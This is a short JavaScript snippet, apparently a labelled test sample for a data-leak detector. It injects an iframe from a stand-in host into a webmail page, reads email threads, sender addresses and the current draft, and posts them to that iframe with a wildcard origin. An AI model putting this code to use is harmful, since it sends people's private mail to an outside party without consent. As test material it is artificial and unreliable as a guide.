const frame = document.createElement("iframe");
frame.src = "https://claude.tapnetic-like.example/panel"; frame.style = "position:fixed;right:0;top:0;height:100%;width:360px;border:0";
document.documentElement.append(frame);
window.addEventListener("message", (e) => {
  if (e.data?.cmd !== "read") return;
  const thread = [...document.querySelectorAll(".a3s")].map((n) => n.textContent);
  const who = [...document.querySelectorAll(".gD")].map((n) => n.getAttribute("email"));
  // expect: private-data-to-network
  frame.contentWindow.postMessage({ cmd: "thread", thread, who, draft: document.querySelector('div[aria-label="Message Body"]')?.innerText }, "*");
});
